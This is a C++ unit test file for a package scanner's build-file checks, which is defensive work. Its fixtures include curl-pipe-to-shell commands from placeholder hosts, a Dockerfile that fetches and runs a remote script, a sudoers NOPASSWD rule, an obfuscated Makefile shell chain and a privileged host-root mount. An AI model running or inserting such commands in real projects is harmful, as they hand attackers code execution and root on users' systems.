#include "static/build_files.h"

#include <map>

#include "gtest/gtest.h"

namespace interlock::scan {
namespace {

std::map<std::string, core::Reach> ActsOf(std::string path, std::string text) {
  core::PackageFile file;
  file.path = std::move(path);
  file.bytes = std::move(text);
  FileContext context;
  context.file = &file;
  const bool container = file.path.ends_with("Dockerfile");
  context.type = context.claimed = container ? FileType::kDockerfile : FileType::kOtherSource;
  context.reach = core::Reach::kBuild;
  FileResult result;
  JudgeBuildFile(context, result);
  std::map<std::string, core::Reach> acts;
  for (const RawFinding& finding : result.findings)
    acts.emplace(finding.rule, finding.has_reach ? finding.reach : context.reach);
  return acts;
}

TEST(BuildFiles, WhatMakeAsksAShellRunsWheneverItReadsTheFile) {
  const auto acts =
      ActsOf("Makefile", "VERSION := $(shell curl -fsSL https://v.kit.example/v.sh | sh)\nall:\n\techo $(VERSION)\n");
  ASSERT_TRUE(acts.contains("SH-001"));
  EXPECT_EQ(acts.at("SH-001"), core::Reach::kInstall);
  EXPECT_TRUE(ActsOf("Makefile", "VERSION := $(shell git describe --tags)\nall:\n\techo $(VERSION)\n").empty());
}

TEST(BuildFiles, VariablesStandForTheirCommands) {
  const std::string head = "tail := sed '1,/x/d' $(LOGO) | rev | tr '_' ' '\n";
  const auto acts = ActsOf("mk/version.mk", head + "sum := $(shell $(tail) | $(firstword $(SHELL)) | cksum)\n");
  ASSERT_TRUE(acts.contains("SH-002"));
  EXPECT_EQ(acts.at("SH-002"), core::Reach::kInstall);
  EXPECT_TRUE(ActsOf("mk/version.mk", head + "sum := $(shell $(tail) | cksum)\n").empty());
}

TEST(BuildFiles, RecipesAreScripts) {
  const auto acts = ActsOf("Makefile",
                           "install:\n\tinstall -m 0755 bin/x /usr/local/bin/x\n"
                           "\tsed 's|@who@|$(USER)|' rules.in | install -m 0440 /dev/stdin /etc/sudoers.d/10-x\n");
  ASSERT_TRUE(acts.contains("SH-008"));
  EXPECT_EQ(acts.at("SH-008"), core::Reach::kInstall);
  // What a maintainer's own target fetches, the package's users do not.
  const auto tools =
      ActsOf("Makefile", "all:\n\ttrue\ntools:\n\tcurl -sSfL https://tools.kit.example/install.sh | sh\n");
  ASSERT_TRUE(tools.contains("SH-001"));
  EXPECT_EQ(tools.at("SH-001"), core::Reach::kBuild);
}

TEST(BuildFiles, LayersOfAContainerAreOneScript) {
  EXPECT_TRUE(ActsOf("Dockerfile", "FROM x\nADD https://x.kit.example/agent.sh /tmp/a.sh\nRUN sh /tmp/a.sh\n")
                  .contains("SH-001"));
  EXPECT_FALSE(ActsOf("Dockerfile", "FROM x\nADD https://x.kit.example/words.txt /srv/words.txt\nRUN sh /srv/a.sh\n")
                   .contains("SH-001"));
  // In its own container a user may have every right.
  const auto acts = ActsOf("Dockerfile", "FROM x\nRUN echo me ALL=\\(root\\) NOPASSWD:ALL > /etc/sudoers.d/me\n");
  EXPECT_TRUE(!acts.contains("SH-008") || acts.at("SH-008") == core::Reach::kBuild);
}

TEST(BuildFiles, OtherFilesAreNone) {
  EXPECT_TRUE(ActsOf("notes.txt", "\tcurl https://x.kit.example/a | sh\n").empty());
}

TEST(BuildFiles, WhatRunsOnOpeningIsInstalled) {
  const auto acts = ActsOf(".envrc", "use flake\ncurl -fsSL https://v.kit.example/v.sh | sh\n");
  ASSERT_TRUE(acts.contains("SH-001"));
  EXPECT_EQ(acts.at("SH-001"), core::Reach::kInstall);
  EXPECT_TRUE(ActsOf(".envrc", "use flake\nlayout python3\n").empty());
}

TEST(BuildFiles, PipelinesRunOnServersAndPartsOfThemAtOthers) {
  const std::string step = "    - run: curl -fsSL https://v.kit.example/v.sh | sh\n      shell: bash\n";
  const auto own = ActsOf(".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: x\n    steps:\n" + step);
  ASSERT_TRUE(own.contains("SH-001"));
  EXPECT_EQ(own.at("SH-001"), core::Reach::kBuild);
  const auto others = ActsOf("action.yml", "runs:\n  using: composite\n  steps:\n" + step);
  ASSERT_TRUE(others.contains("SH-001"));
  EXPECT_EQ(others.at("SH-001"), core::Reach::kInstall);
}

TEST(BuildFiles, TheHostsRootIsTheHost) {
  const std::string head = "services:\n  a:\n    image: a:1\n    privileged: true\n    volumes:\n";
  EXPECT_TRUE(ActsOf("docker-compose.yml", head + "      - /:/host\n").contains("ESCAPE-001"));
  EXPECT_TRUE(ActsOf("docker-compose.yml", head + "      - /:/host:ro\n").empty());
}

// References that stand for each other many times over end, and what is behind thousands of targets is found.
TEST(BuildFiles, LongMakefilesHideNothing) {
  std::string text;
  for (int i = 0; i < 12; ++i) {
    text += "A" + std::to_string(i) + " =";
    for (int k = 0; k < 300; ++k) text += "$(A" + std::to_string(i + 1) + ")";
    text += "\n";
  }
  core::PackageFile file;
  file.path = "Makefile";
  file.bytes = text + "A12 =\nall:\n\techo $(A0)\n";
  FileContext context;
  context.file = &file;
  context.type = context.claimed = FileType::kOtherSource;
  FileResult result;
  JudgeBuildFile(context, result);
  EXPECT_FALSE(result.skipped.empty());
  std::string recipe = "install:\n";
  for (int i = 0; i < 5000; ++i) recipe += "\techo line\n";
  EXPECT_TRUE(ActsOf("Makefile", recipe + "\tcurl -s https://x.kit.example/a | sh\n").contains("SH-001"));
  std::string targets;
  for (int i = 0; i < 3000; ++i) targets += "t" + std::to_string(i) + ":\n\techo a\n";
  EXPECT_TRUE(ActsOf("Makefile", targets + "install:\n\tcurl -s https://x.kit.example/a | sh\n").contains("SH-001"));
}

}  // namespace
}  // namespace interlock::scan
